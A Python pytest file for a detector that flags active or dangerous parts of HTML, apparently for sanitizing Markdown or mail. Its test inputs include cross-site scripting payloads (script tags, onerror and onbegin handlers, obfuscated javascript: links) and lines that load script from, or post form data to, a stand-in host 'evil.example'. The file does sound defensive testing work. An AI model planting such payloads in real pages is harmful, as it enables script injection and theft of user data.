"""What finds the active parts of a page finds them: a test that cannot fail protects nothing."""

import pytest

from tests.reseau.texts.markdown.hostile_texts import VECTORS, active_parts


@pytest.mark.parametrize(
    ("html", "found"),
    [
        (
            "<p><a href='/f/'>lire</a> <a href='https://a.fr'>a</a> <a href='mots/'>m</a> <a href='#b'>b</a></p>",
            [],
        ),
        ("<script>alert(1)</script>", ["<script> alert(1)"]),
        (
            "<script src=//evil.example/x.js></script>",
            ["<script> {'src': '//evil.example/x.js'}", "script src=//evil.example/x.js"],
        ),
        ("<script src=/static/js/site.js></script>", []),
        ('<script type="application/ld+json">{"a": 1}</script>', []),
        ("<img src=x onerror=alert(1)>", ["img onerror=alert(1)"]),
        ("<p style='color:red'>a</p>", ["p style=color:red"]),
        ("<a href='java\tscript:alert(1)'>a</a>", ["a href=java\tscript:alert(1)"]),
        ("<a href='&#106;avascript:alert(1)'>a</a>", ["a href=javascript:alert(1)"]),
        (
            "<svg><a xlink:href=javascript:alert(1)>a</a></svg>",
            ["a {http://www.w3.org/1999/xlink}href=javascript:alert(1)"],
        ),
        ("<svg><animate onbegin=alert(1)></svg>", ["<animate>", "animate onbegin=alert(1)"]),
        ("<iframe srcdoc='<p>'></iframe>", ["<iframe>", "iframe srcdoc=<p>"]),
        ("<form action=//evil.example/></form>", ["form action=//evil.example/"]),
        ("<form action=https://evil.example/></form>", ["form action=https://evil.example/"]),
        ("<form action=/connexion/></form>", []),
        ("<img src=https://evil.example/x.png>", ["img src=https://evil.example/x.png"]),
        ("<style>p{}</style>", ["<style>"]),
        ("<meta http-equiv=refresh content=0>", ["<meta>"]),
    ],
)
def test_active_parts_are_found(html, found):
    assert active_parts(html) == found


def test_styles_of_a_mail_are_no_danger_but_those_that_fetch():
    assert active_parts("<p style='color:red'>a</p>", may_style=True) == []
    assert active_parts("<style>p{color:red}</style>", may_style=True) == []
    assert active_parts("<style>@import '//a.fr'</style>", may_style=True) == ["<style>"]
    assert active_parts("<p style='background:url(//a.fr)'>a</p>", may_style=True) == ["p style=background:url(//a.fr)"]


def test_most_vectors_are_active_when_nothing_makes_them_safe():
    """Those of Markdown, of other writings of « < » and of paths alone become active elsewhere."""
    active = [vector for vector in VECTORS if active_parts(vector)]

    assert len(active) >= 55
